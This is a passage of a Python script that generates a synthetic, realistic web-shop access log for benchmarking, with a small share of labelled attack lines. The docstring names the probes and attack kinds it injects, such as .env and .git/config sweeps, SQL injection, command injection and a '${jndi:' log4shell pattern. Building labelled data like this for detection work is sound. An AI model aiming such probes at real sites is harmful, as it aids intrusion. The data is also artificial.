#!/usr/bin/env python3
"""Writes a week of a web shop's access log, as diverse as real traffic, with labelled attacks.

Why: scripts/generate_access_log.py writes a small, readable log for tests and examples, but
a million lines of it hold only about 400 distinct request lines and 21 user agents, so a
speed benchmark on it finds every cache in the engine hot. Real access logs have 0.08 to
0.17 distinct request lines per line, thousands of clients and user agents, query strings
with ids that never repeat, and long tails of paths and referrers. A benchmark must not be
tuned to our own generator's narrow diversity; this generator gives it a file whose
diversity matches real traffic (scripts/log_diversity.py compares the two).

What it writes: nginx/Apache combined format, one line per request, in time order, from
Monday 2 March 2026 00:00 (+0100) for a week, following a daily rhythm that differs between
weekdays and the weekend. The site is a clothing shop with a blog: a home page, categories
with paging, sorting and filters, thousands of products with their images, a search box,
a cart and checkout, accounts, a JSON API used by the page's scripts and by a mobile app,
hashed static assets that change with each deploy, and a blog.

  visitors        a few thousand addresses, IPv4 and some IPv6, with heavy-tailed
                  activity: most come once or twice, a few come back every day, and three
                  NAT gateways (an office, a university, a mobile carrier) carry many people
                  each. They arrive from search engines, social sites, newsletters, ads and
                  many other sites, or type the address. Each page pulls its scripts,
                  styles, fonts and images (200 the first time, then cached or 304), and
                  its API calls (some with a `_=<ms>` cache-buster). Some add to the cart,
                  log in (now and then mistyping the password: 401), check out.
  user agents     browser strings built from versions of Chrome, Edge, Firefox, Safari,
                  Samsung Internet, Opera and in-app browsers on Windows, macOS, Linux,
                  Android and iOS, popular versions often and old ones rarely
  crawlers        Googlebot, bingbot, AhrefsBot, SemrushBot, GPTBot, Bytespider and others,
                  from many addresses each, reading robots.txt, sitemaps and the long tail
                  of the site, with 304s, 301s from old URLs and 404s for removed products
  machines        uptime monitors (HEAD and GET), feed readers, a partner's stock sync,
                  the mobile app, link previews, price scrapers, developers with curl
  noise           broken links (404), iOS asking for apple-touch-icon (404), stale script
                  hashes after a deploy (404), a short outage of 502/503s, internet-wide
                  scanners asking for / and sending TLS handshakes to the plain port (400)

Attacks, about a quarter of a percent of the lines, labelled with the kinds scripts/generate_access_log.py
uses: scanning (sweeps for wp-login.php, .env, .git/config, phpMyAdmin and more, mostly
404s from one address; and one slow sweep dressed as a browser), sensitive_file_probe (a
handful of requests for secrets), sql_injection (sqlmap and hand-typed), path_traversal,
command_injection (router exploits, a ping form), log4shell (`${jndi:` in the user agent,
path and referer), xss, brute_force (POST /login answered 401, POST /wp-login.php) and
request_flood (over a thousand requests in minutes from one address, then 429s).

Client addresses are random public-looking addresses (crawlers use their operators' real
ranges), not the documentation ranges the small generator uses: thousands of clients do
not fit in those. Deterministic for a given seed and size (random.Random(seed), no clock).
Holds about an hour of traffic at a time: lines are generated hour by hour, sorted, written.

With --labels FILE.csv, writes `line,client,kind` for every attack line (1-based line
numbers), the format generate_access_log.py writes and `loglens evaluate --labels` reads;
lines not listed are normal.

    python3 scripts/generate_realistic_access_log.py --out /tmp/realistic.log --labels /tmp/realistic.labels.csv
    python3 scripts/generate_realistic_access_log.py --lines 200000 --seed 3 --out /tmp/small.log
    python3 scripts/log_diversity.py /tmp/realistic.log example_logs/elastic_apache_combined.log
"""

import argparse
import bisect
import collections
import datetime as dt
import itertools
import operator
import sys
from random import Random
from urllib.parse import quote, quote_plus

START = dt.datetime(2026, 3, 2, 0, 0, 0, tzinfo=dt.timezone(dt.timedelta(hours=1)))
START_MS = int(START.timestamp() * 1000)
HOUR = 3600
DAY = 24 * HOUR
SITE = "https://shop.example"

# Share of a day's visitors in each hour, on weekdays and at the weekend.
WEEKDAY_HOURS = [2.0, 1.3, 0.9, 0.7, 0.6, 0.8, 1.5, 2.8, 4.0, 4.8, 5.2, 5.5,
                 6.0, 5.7, 5.4, 5.3, 5.4, 5.8, 6.3, 7.0, 7.4, 6.8, 5.0, 3.2]
WEEKEND_HOURS = [2.8, 2.0, 1.3, 0.9, 0.7, 0.6, 0.8, 1.4, 2.6, 4.0, 5.2, 5.8,
                 6.0, 5.8, 5.6, 5.5, 5.6, 5.9, 6.3, 6.8, 7.0, 6.5, 5.0, 3.6]
# Monday to Sunday: Saturday is quiet, Sunday evening busy.
DAY_WEIGHTS = [1.0, 0.97, 0.95, 0.98, 0.9, 0.78, 0.92]

# --- Words the site is made of ------------------------------------------------------

ADJECTIVES = ["classic", "urban", "alpine", "coastal", "everyday", "trail", "vintage", "slim", "relaxed",
              "heritage", "lightweight", "insulated", "waterproof", "organic", "recycled", "essential",
              "rugged", "soft", "cropped", "oversized", "quilted", "ribbed", "packable", "tailored",
              "nordic", "harbour", "summit", "meadow", "city", "weekend"]
MATERIALS = ["wool", "cotton", "linen", "leather", "denim", "fleece", "down", "canvas", "suede", "cashmere",
             "bamboo", "hemp", "nylon", "corduroy", "merino", "flannel"]
ITEMS = ["jacket", "parka", "hoodie", "sweater", "cardigan", "shirt", "t-shirt", "polo", "jeans", "chinos",
         "shorts", "dress", "skirt", "boots", "sneakers", "loafers", "sandals", "socks", "scarf", "beanie",
         "cap", "gloves", "backpack", "tote", "belt", "wallet", "raincoat", "vest", "leggings", "blazer"]
COLORS = ["black", "navy", "grey", "olive", "sand", "rust", "white", "burgundy", "forest", "charcoal",
          "cream", "sky-blue", "mustard", "stone", "indigo", "coral"]
SIZES = ["xs", "s", "m", "l", "xl", "xxl", "36", "38", "40", "42", "44", "46"]
SORTS = ["price-asc", "price-desc", "newest", "popular", "rating"]
DEPARTMENTS = ["women", "men", "kids"]
DEPARTMENT_SECTIONS = ["jackets", "knitwear", "shirts", "trousers", "shoes", "accessories", "sale", "new-in",
                       "dresses", "basics"]
STANDALONE_CATEGORIES = ["outdoor", "bags", "socks", "hats-and-scarves", "gifts", "gift-cards", "sale",
                         "new-in", "bestsellers", "sustainable", "last-chance", "home"]
INFO_PAGES = ["/about", "/contact", "/faq", "/shipping", "/returns", "/privacy", "/terms", "/stores",
              "/size-guide", "/careers", "/sustainability", "/imprint", "/gift-cards", "/newsletter"]
BLOG_TOPICS = ["how-to-care-for-{material}-{item}s", "{n}-ways-to-style-a-{color}-{item}",
               "the-{adjective}-{item}-guide", "why-we-switched-to-{material}", "behind-the-seams-{item}s",
               "{season}-lookbook-{year}", "packing-list-{place}", "meet-the-makers-{place}",
               "{material}-vs-{material2}-which-is-warmer", "repair-your-{item}-in-{n}-steps"]
SEASONS = ["spring", "summer", "autumn", "winter"]
PLACES = ["lisbon", "the-alps", "scotland", "porto", "the-dolomites", "iceland", "copenhagen", "the-lake-district",
          "norway", "the-black-forest", "cornwall", "sardinia"]
SEARCH_EXTRAS = ["sale", "kids", "women", "men", "waterproof", "warm", "cheap", "gift", "set", "xl", "size 42",
                 "vegan", "large", "small", "long", "short", "discount", "new"]
FOREIGN_WORDS = ["größe", "mütze", "schuhe", "veste", "chaussures", "jas", "sjaal", "regenjacke", "bolsa",
                 "strømper", "kurtka", "pull", "wollsocken", "übergangsjacke"]
WORDS = ["north", "pine", "river", "stone", "maple", "fox", "harbor", "copper", "lantern", "meadow", "cedar",
         "pixel", "urban", "wander", "bright", "tiny", "silver", "blue", "green", "golden", "quiet", "wild",
         "happy", "daily", "fresh", "nordic", "style", "fashion", "trail", "mountain", "coast", "city", "home",
         "craft", "thread", "wool", "deal", "savvy", "smart", "outdoor", "gear", "life", "mama", "papa", "kid",
         "travel", "nomad", "review", "guide", "hub", "spot", "zone", "corner", "journal", "notes", "club"]
TLDS = ["com", "com", "com", "de", "de", "net", "org", "co.uk", "fr", "nl", "io", "blog", "at", "ch", "it",
        "es", "se", "dk", "pl", "be", "info", "eu"]

# --- Small helpers ------------------------------------------------------------------


class Picker:
    """Picks from items by weight in O(log n)."""

    def __init__(self, items, weights):
        self.items = list(items)
        self.cumulative = list(itertools.accumulate(weights))
        self.total = self.cumulative[-1]

    def pick(self, rng):
        index = bisect.bisect_right(self.cumulative, rng.random() * self.total)
        return self.items[min(index, len(self.items) - 1)]


def zipf(items, exponent=1.0):
    """A picker with weight 1/rank**exponent: the first items often, the long tail now and then."""
    items = list(items)
    return Picker(items, [1 / rank ** exponent for rank in range(1, len(items) + 1)])


def weighted(pairs):
    """A picker from (item, weight) pairs."""
    return Picker([item for item, _ in pairs], [weight for _, weight in pairs])


def hex_id(rng, length):
    return f"{rng.getrandbits(4 * length):0{length}x}"


def token(rng, length, alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"):
    return "".join(rng.choice(alphabet) for _ in range(length))


def heavy_tailed_count(rng, alpha, most):
    """1, 2, 3, ... up to `most`, with P(count >= k) about k**-alpha: mostly 1 or 2, now and then hundreds."""
    while True:
        count = int((1 - rng.random()) ** (-1 / alpha))
        if count <= most:
            return count


def escape_quotes(text):
    """As Apache writes a double quote inside a quoted field."""
    return text.replace('"', '\\"')


# --- Addresses ----------------------------------------------------------------------

RESERVED_FIRST_OCTETS = {0, 10, 100, 127, 169, 172, 192, 198, 203} | set(range(224, 256))
PUBLIC_FIRST_OCTETS = [octet for octet in range(1, 224) if octet not in RESERVED_FIRST_OCTETS]
IPV6_PREFIXES = ["2a02:8108", "2a02:810d", "2003:e5", "2a01:c22", "2a01:e0a", "2001:16b8", "2a00:23c5",
                 "2600:1700", "2601:646", "2a02:a46e", "2804:14c", "2409:8a28", "2a0d:5600"]


class AddressBook:
    """Hands out distinct public-looking addresses, so that no two actors share one by chance."""

    def __init__(self, rng):
        self.rng = rng
        self.taken = set()

    def ipv4(self, prefix=None):
        """A new IPv4 address; with a prefix such as "66.249.66.", one inside it."""
        rng = self.rng
        for _ in range(10_000):
            if prefix:
                address = prefix + str(rng.randrange(1, 255))
            else:
                address = (f"{rng.choice(PUBLIC_FIRST_OCTETS)}.{rng.randrange(256)}."
                           f"{rng.randrange(256)}.{rng.randrange(1, 255)}")
            if address not in self.taken:
                self.taken.add(address)
                return address
        raise RuntimeError(f"no free address left in {prefix}")

    def ipv6(self):
        """A new IPv6 address: a provider's prefix, then six random groups or a short "::" form."""
        rng = self.rng
        while True:
            prefix = rng.choice(IPV6_PREFIXES)
            if rng.random() < 0.7:
                address = prefix + ":" + ":".join(f"{rng.randrange(0x10000):x}" for _ in range(6))
            else:
                address = prefix + "::" + ":".join(f"{rng.randrange(0x10000):x}" for _ in range(2))
            if address not in self.taken:
                self.taken.add(address)
                return address

    def visitor(self, ipv6_share=0.14):
        return self.ipv6() if self.rng.random() < ipv6_share else self.ipv4()

    def network(self):
        """A random /24 prefix, for an operator with several addresses."""
        rng = self.rng
        return f"{rng.choice(PUBLIC_FIRST_OCTETS)}.{rng.randrange(256)}.{rng.randrange(256)}."


# --- User agents --------------------------------------------------------------------

CHROME_NEWEST = 146
FIREFOX_NEWEST = 148
ANDROID_MODELS = ["SM-S928B", "SM-S921B", "SM-S918B", "SM-S911B", "SM-A556B", "SM-A546B", "SM-A536B",
                  "SM-A525F", "SM-A155F", "SM-G991B", "SM-G998B", "SM-F946B", "SM-X200", "Pixel 9",
                  "Pixel 8 Pro", "Pixel 8a", "Pixel 7", "Pixel 6a", "2201116SG", "23129RAA4G", "M2101K6G",
                  "CPH2581", "CPH2451", "RMX3761", "moto g54 5G", "moto g84 5G", "XQ-DQ54", "NE2213",
                  "V2207", "ASUS_AI2302", "A142", "Nokia G22", "HRY-LX1", "VOG-L29", "22111317PG", "SM-T505"]
IOS_VERSIONS = ["16_7_10", "16_7_11", "17_5_1", "17_6_1", "17_7", "17_7_2", "18_1_1", "18_2_1", "18_3",
                "18_3_2", "18_4", "18_4_1", "18_5", "18_6", "18_6_2", "18_7_2", "26_0", "26_0_1", "26_1",
                "26_2", "26_2_1", "26_3"]


def recent(rng, newest, oldest, stay=0.62):
    """A version number: the newest most often, each older one less, a thin tail back to oldest."""
    if rng.random() < 0.06:
        return rng.randint(oldest, newest)
    version = newest
    while version > oldest and rng.random() > stay:
        version -= 1
    return version


def safari_version_for(ios):
    major, minor = (ios.split("_") + ["0"])[:2]
    return f"{major}.{minor}"


OLD_AND_RARE_BROWSERS = [
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_13_6) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/13.1.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 12_5_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/12.1.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 8.1.0; SM-J530F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/96.0.4664.104 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 "
    "YaBrowser/25.4.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 "
    "Safari/537.36 Vivaldi/7.6.3797.52",
]


class AgentFactory:
    """Builds user agent strings the way real browsers, crawlers and tools send them."""

    def __init__(self, rng):
        self.rng = rng
        self.browser_kinds = weighted([
            (self.chrome_windows, 26), (self.edge_windows, 8), (self.chrome_mac, 6), (self.safari_mac, 5),
            (self.firefox_desktop, 6), (self.chrome_linux, 1.2), (self.safari_iphone, 17), (self.safari_ipad, 2),
            (self.chrome_iphone, 3), (self.chrome_android, 11), (self.android_full, 6), (self.samsung, 3),
            (self.in_app, 6.5), (self.opera, 1.2), (self.firefox_android, 0.8), (self.old_browser, 0.8),
        ])

    def browser(self):
        return self.browser_kinds.pick(self.rng)()

    def chrome_windows(self):
        rng = self.rng
        major = recent(rng, CHROME_NEWEST, 109)
        windows = "Windows NT 10.0; Win64; x64"
        if major == 109 and rng.random() < 0.5:  # the last Chrome for Windows 7
            windows = "Windows NT 6.1; Win64; x64"
        version = f"{major}.0.0.0" if rng.random() < 0.93 else self.full_chrome_version(major)
        return f"Mozilla/5.0 ({windows}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version} Safari/537.36"

    def full_chrome_version(self, major):
        rng = self.rng
        return f"{major}.0.{6000 + (major - 110) * 65 + rng.randrange(0, 40)}.{rng.randrange(1, 230)}"

    def edge_windows(self):
        rng = self.rng
        major = recent(rng, CHROME_NEWEST, 118)
        edge = f"{major}.0.{3000 + (major - 118) * 55 + rng.randrange(0, 6)}.{rng.randrange(20, 140)}"
        return (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{major}.0.0.0 Safari/537.36 Edg/{edge}")

    def chrome_mac(self):
        major = recent(self.rng, CHROME_NEWEST, 112)
        return (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{major}.0.0.0 Safari/537.36")

    def chrome_linux(self):
        major = recent(self.rng, CHROME_NEWEST, 112)
        return (f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{major}.0.0.0 Safari/537.36")

    def safari_mac(self):
        rng = self.rng
        version = rng.choice(["17.4.1", "17.5", "17.6", "18.0.1", "18.1", "18.2", "18.3", "18.3.1", "18.4",
                              "18.5", "18.6", "26.0", "26.0.1", "26.1", "26.2", "26.3"])
        return (f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                f"Version/{version} Safari/605.1.15")

    def firefox_desktop(self):
        rng = self.rng
        version = rng.choice([115, 128, 140]) if rng.random() < 0.15 else recent(rng, FIREFOX_NEWEST, 120)
        platform = weighted([("Windows NT 10.0; Win64; x64", 6), ("Macintosh; Intel Mac OS X 10.15", 2),
                             ("X11; Linux x86_64", 1.5), ("X11; Ubuntu; Linux x86_64", 1),
                             ("Windows NT 6.1; Win64; x64", 0.3)]).pick(rng)
        return f"Mozilla/5.0 ({platform}; rv:{version}.0) Gecko/20100101 Firefox/{version}.0"

    def safari_iphone(self):
        ios = self.rng.choice(IOS_VERSIONS)
        return (f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                f"Version/{safari_version_for(ios)} Mobile/15E148 Safari/604.1")

    def safari_ipad(self):
        ios = self.rng.choice(IOS_VERSIONS[:14])
        return (f"Mozilla/5.0 (iPad; CPU OS {ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                f"Version/{safari_version_for(ios)} Mobile/15E148 Safari/604.1")

    def chrome_iphone(self):
        rng = self.rng
        major = recent(rng, CHROME_NEWEST, 120)
        return (f"Mozilla/5.0 (iPhone; CPU iPhone OS {rng.choice(IOS_VERSIONS)} like Mac OS X) AppleWebKit/605.1.15 "
                f"(KHTML, like Gecko) CriOS/{self.full_chrome_version(major)} Mobile/15E148 Safari/604.1")

    def chrome_android(self):
        major = recent(self.rng, CHROME_NEWEST, 110)
        return (f"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{major}.0.0.0 Mobile Safari/537.36")

    def android_full(self):
        """A WebView or an older Chrome that still names the phone."""
        rng = self.rng
        major = recent(rng, CHROME_NEWEST, 100, stay=0.5)
        android = rng.choice(["11", "12", "13", "14", "15", "16"])
        webview = "; wv" if rng.random() < 0.5 else ""
        version = "Version/4.0 " if webview else ""
        return (f"Mozilla/5.0 (Linux; Android {android}; {rng.choice(ANDROID_MODELS)}{webview}) AppleWebKit/537.36 "
                f"(KHTML, like Gecko) {version}Chrome/{self.full_chrome_version(major)} Mobile Safari/537.36")

    def samsung(self):
        rng = self.rng
        browser = rng.choice(["25.0", "26.0", "27.0", "28.0", "29.0"])
        major = {"25.0": 121, "26.0": 122, "27.0": 125, "28.0": 130, "29.0": 136}[browser]
        model = rng.choice([m for m in ANDROID_MODELS if m.startswith("SM-")])
        return (f"Mozilla/5.0 (Linux; Android {rng.choice(['13', '14', '15'])}; SAMSUNG {model}) AppleWebKit/537.36 "
                f"(KHTML, like Gecko) SamsungBrowser/{browser} Chrome/{major}.0.0.0 Mobile Safari/537.36")

    def in_app(self):
        """Instagram's and Facebook's browsers: long strings with build numbers, nearly one per phone."""
        rng = self.rng
        ios = rng.choice(IOS_VERSIONS)
        if rng.random() < 0.5:
            app = f"{rng.randint(330, 410)}.0.0.{rng.randint(10, 50)}.{rng.randint(70, 130)}"
            device = rng.choice(["iPhone14,2", "iPhone14,5", "iPhone15,2", "iPhone15,3", "iPhone16,1", "iPhone16,2",
                                 "iPhone17,1", "iPhone17,3", "iPhone13,2", "iPhone12,1"])
            return (f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                    f"Mobile/15E148 Instagram {app} ({device}; iOS {ios}; de_DE; de; scale=3.00; 1179x2556; "
                    f"{rng.randint(500000000, 790000000)})")
        major = recent(rng, CHROME_NEWEST, 118)
        build = f"{rng.choice(['UP1A', 'TP1A', 'AP2A', 'BP1A'])}.{rng.randint(230101, 250930)}.{rng.randint(1, 99):03d}"
        facebook = f"{rng.randint(440, 520)}.0.0.{rng.randint(10, 70)}.{rng.randint(10, 120)}"
        return (f"Mozilla/5.0 (Linux; Android {rng.choice(['12', '13', '14', '15'])}; {rng.choice(ANDROID_MODELS)} "
                f"Build/{build}; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
                f"Chrome/{self.full_chrome_version(major)} Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/{facebook};]")

    def opera(self):
        rng = self.rng
        major = recent(rng, CHROME_NEWEST, 120)
        return (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{major}.0.0.0 Safari/537.36 OPR/{major - 15}.0.0.0")

    def firefox_android(self):
        rng = self.rng
        version = recent(rng, FIREFOX_NEWEST, 125)
        android = rng.choice(["12", "13", "14", "15"])
        return f"Mozilla/5.0 (Android {android}; Mobile; rv:{version}.0) Gecko/{version}.0 Firefox/{version}.0"

    def old_browser(self):
        return self.rng.choice(OLD_AND_RARE_BROWSERS)

    def app(self):
        """The shop's own mobile app."""
        rng = self.rng
        version = rng.choice(["5.1.0", "5.2.0", "5.2.1", "5.3.0", "5.3.1", "5.4.0"])
        build = version.replace(".", "") + str(rng.randint(0, 9))
        if rng.random() < 0.55:
            ios = rng.choice(IOS_VERSIONS).replace("_", ".")
            return f"NorthwindShop/{version} (com.shop.example.ios; build:{build}; iOS {ios}) Alamofire/5.9.1"
        return (f"NorthwindShop/{version} (Android {rng.choice(['12', '13', '14', '15', '16'])}; "
                f"{rng.choice(ANDROID_MODELS)}; build {build}) okhttp/4.12.0")

    def tool(self):
        """An HTTP library or command line tool, with a version."""
        template, versions = TOOL_AGENTS.pick(self.rng)
        return template.format(self.rng.choice(versions))


# (user agent with {} for the version, versions), how common
TOOL_AGENTS = weighted([
    (("curl/{}", ["7.68.0", "7.81.0", "7.88.1", "8.4.0", "8.5.0", "8.7.1", "8.9.1", "8.11.1", "8.12.1", "8.14.1"]), 4),
    (("python-requests/{}", ["2.25.1", "2.28.1", "2.28.2", "2.31.0", "2.32.3", "2.32.4", "2.32.5"]), 4),
    (("Go-http-client/{}", ["1.1", "2.0"]), 3),
    (("Wget/{}", ["1.20.3 (linux-gnu)", "1.21.2", "1.21.4", "1.25.0"]), 1),
    (("okhttp/{}", ["3.12.13", "4.9.3", "4.11.0", "4.12.0"]), 1),
    (("axios/{}", ["0.27.2", "1.6.8", "1.7.7", "1.8.4", "1.11.0"]), 1),
    (("python-httpx/{}", ["0.25.2", "0.27.0", "0.28.1"]), 1),
    (("Python/3.12 aiohttp/{}", ["3.8.6", "3.9.5", "3.10.11", "3.11.18", "3.12.15"]), 1),
    (("Java/{}", ["1.8.0_392", "11.0.22", "17.0.10", "21.0.4"]), 0.5),
    (("Apache-HttpClient/{} (Java/17.0.10)", ["4.5.13", "4.5.14", "5.2.1", "5.3.1"]), 0.5),
    (("node-fetch/{} (+https://github.com/bitinn/node-fetch)", ["1.0"]), 0.3),
    (("PostmanRuntime/{}", ["7.36.3", "7.39.1", "7.42.0", "7.43.4", "7.44.1"]), 0.5),
    (("libwww-perl/{}", ["6.72", "6.77"]), 0.2),
])


# --- The site -----------------------------------------------------------------------


class Product:
    __slots__ = ("slug", "item_id", "category", "year", "month", "image_sizes", "page_size", "path", "media")

    def __init__(self, slug, item_id, category, year, month, image_sizes, page_size):
        self.slug = slug
        self.item_id = item_id
        self.category = category
        self.year = year
        self.month = month
        self.image_sizes = image_sizes
        self.page_size = page_size
        self.path = f"/products/{slug}"
        self.media = f"/media/{year}/{month:02d}/{slug}"

    def image(self, number):
        return f"{self.media}-{number}.jpg"

    def thumbnail(self):
        return f"{self.media}-1-400x400.webp"


class Category:
    def __init__(self, slug):
        self.slug = slug
        self.path = f"/category/{slug}"
        self.products = []
        self.picker = None
        self.page_size = 0

    @property
    def pages(self):
        return max(1, (len(self.products) + 23) // 24)


class BlogPost:
    __slots__ = ("path", "media", "images", "page_size")

    def __init__(self, path, media, images, page_size):
        self.path = path
        self.media = media
        self.images = images
        self.page_size = page_size


class Deploy:
    """One build of the front end: its hashed scripts and styles, and when it went live."""

    def __init__(self, rng, live_from):
        self.live_from = live_from
        self.css = f"/static/css/main.{hex_id(rng, 8)}.css"
        self.scripts = [f"/static/js/runtime.{hex_id(rng, 8)}.js", f"/static/js/vendor.{hex_id(rng, 8)}.js",
                        f"/static/js/app.{hex_id(rng, 8)}.js"]
        self.chunks = {kind: f"/static/js/{kind}.{hex_id(rng, 8)}.chunk.js"
                       for kind in ["product", "category", "search", "checkout", "account", "blog"]}
        files = [self.css] + self.scripts + list(self.chunks.values())
        self.sizes = {path: rng.randint(8_000, 420_000) for path in files}


class Site:
    """The shop's pages, media and assets, with how popular each is and how big."""

    def __init__(self, rng):
        self.rng = rng
        self.categories = self.make_categories()
        self.products = self.make_products(6_000)
        self.discontinued = [self.product_slug(rng) + "-" + str(rng.randint(2, 9)) for _ in range(900)]
        for category in self.categories:
            category.picker = zipf(category.products, 0.9) if category.products else None
            category.page_size = rng.randint(38_000, 92_000)
        self.popular_products = zipf(self.products, 1.0)
        self.popular_categories = zipf(self.categories, 0.8)
        self.posts = self.make_posts(380)
        self.popular_posts = zipf(self.posts, 0.9)
        self.popular_queries = zipf(self.make_queries(1_200), 1.0)
        self.banners = [f"/media/banners/{name}-{width}.jpg" for name in
                        ["spring-26", "new-in", "rain-ready", "outlet", "merino-week"] for width in (1440, 768)]
        self.banner_sizes = {path: rng.randint(80_000, 400_000) for path in self.banners}
        # Tuesday 11:20, Thursday 15:05, Saturday 10:48
        deploy_times = [0, DAY + 11 * HOUR + 20 * 60, 3 * DAY + 15 * HOUR + 5 * 60, 5 * DAY + 10 * HOUR + 48 * 60]
        self.deploys = [Deploy(rng, t) for t in deploy_times]
        self.info_pages = zipf(INFO_PAGES, 0.9)
        self.affiliates = [f"aff{rng.randint(1000, 9999)}" for _ in range(220)]
        self.campaigns = ["spring26", "spring26-launch", "newsletter-w10", "newsletter-w11", "merino-week",
                          "outlet-march", "retargeting", "brand", "generic-jackets", "pmax-all"]

    # Building the catalogue

    def make_categories(self):
        slugs = [f"{department}-{section}" for department in DEPARTMENTS for section in DEPARTMENT_SECTIONS]
        return [Category(slug) for slug in slugs + STANDALONE_CATEGORIES]

    @staticmethod
    def product_slug(rng):
        return f"{rng.choice(ADJECTIVES)}-{rng.choice(MATERIALS)}-{rng.choice(ITEMS)}-{rng.choice(COLORS)}"

    def make_products(self, count):
        rng = self.rng
        slugs = set()
        while len(slugs) < count:
            slugs.add(self.product_slug(rng))
        slugs = sorted(slugs)
        rng.shuffle(slugs)  # the order is the popularity rank
        products = []
        for rank, slug in enumerate(slugs):
            category = self.categories[rng.randrange(len(self.categories))]
            year = rng.choice([2022, 2023, 2024, 2024, 2025, 2025, 2025, 2026])
            month = rng.randint(1, 12) if year < 2026 else rng.randint(1, 2)
            images = [rng.randint(60_000, 420_000) for _ in range(rng.randint(2, 6))]
            product = Product(slug, 10_000 + rank * 7 + rng.randint(0, 6), category, year, month, images,
                              rng.randint(28_000, 64_000))
            category.products.append(product)
            products.append(product)
        return products

    def make_posts(self, count):
        rng = self.rng
        posts, seen = [], set()
        while len(posts) < count:
            template = rng.choice(BLOG_TOPICS)
            slug = template.format(material=rng.choice(MATERIALS), material2=rng.choice(MATERIALS),
                                   item=rng.choice(ITEMS), color=rng.choice(COLORS), adjective=rng.choice(ADJECTIVES),
                                   n=rng.randint(3, 12), season=rng.choice(SEASONS), year=rng.randint(2019, 2026),
                                   place=rng.choice(PLACES))
            if slug in seen:
                continue
            seen.add(slug)
            year, month = rng.randint(2019, 2026), rng.randint(1, 12)
            if year == 2026:
                month = rng.randint(1, 2)
            posts.append(BlogPost(f"/blog/{year}/{month:02d}/{slug}/", f"/media/blog/{year}/{month:02d}/{slug}",
                                  [rng.randint(50_000, 300_000) for _ in range(rng.randint(1, 6))],
                                  rng.randint(22_000, 56_000)))
        rng.shuffle(posts)
        return posts

    def make_queries(self, count):
        rng = self.rng
        queries = set()
        while len(queries) < count:
            queries.add(self.fresh_query(rng))
        queries = sorted(queries)
        rng.shuffle(queries)
        return queries

    @staticmethod
    def fresh_query(rng):
        """What someone types into the search box, before encoding."""
        shape = rng.random()
        if shape < 0.3:
            words = [rng.choice(ITEMS)]
        elif shape < 0.55:
            words = [rng.choice(COLORS), rng.choice(ITEMS)]
        elif shape < 0.72:
            words = [rng.choice(MATERIALS), rng.choice(ITEMS)]
        elif shape < 0.84:
            words = [rng.choice(ITEMS), rng.choice(SEARCH_EXTRAS)]
        elif shape < 0.92:
            words = [rng.choice(ADJECTIVES), rng.choice(COLORS), rng.choice(ITEMS)]
        else:
            words = [rng.choice(FOREIGN_WORDS)] + ([rng.choice(COLORS)] if rng.random() < 0.5 else [])
        query = " ".join(words).replace("-", " ")
        if rng.random() < 0.08:  # a typo: a letter dropped or doubled
            at = rng.randrange(1, len(query))
            if rng.random() < 0.5:
                query = query[:at - 1] + query[at:]
            else:
                query = query[:at] + query[at - 1] + query[at:]
        if rng.random() < 0.1:
            query = query.capitalize()
        return query

    # Choosing pages

    def product(self, rng):
        return self.popular_products.pick(rng)

    def category(self, rng):
        return self.popular_categories.pick(rng)

    def post(self, rng):
        return self.popular_posts.pick(rng)

    def query(self, rng):
        return self.popular_queries.pick(rng) if rng.random() < 0.62 else self.fresh_query(rng)

    def deploy_at(self, t):
        current = self.deploys[0]
        for deploy in self.deploys:
            if deploy.live_from <= t:
                current = deploy
        return current

    def category_target(self, rng, category, curious=1.0):
        """A listing with paging, sorting and filters; curious > 1 for crawlers that try every combination."""
        params = []
        if rng.random() < 0.22 * curious:
            params.append("sort=" + rng.choice(SORTS))
        if rng.random() < 0.10 * curious:
            params.append("size=" + rng.choice(SIZES))
        if rng.random() < 0.08 * curious:
            params.append("color=" + rng.choice(COLORS))
        if rng.random() < 0.04 * curious:
            params.append(f"price={rng.choice(['0-25', '25-50', '50-100', '100-200', '200-500'])}")
        if rng.random() < 0.3 * curious:
            params.append(f"page={min(category.pages + 2, 2 + int(rng.paretovariate(1.3)))}")
        return category.path + ("?" + "&".join(params) if params else "")


# --- Referrers ----------------------------------------------------------------------

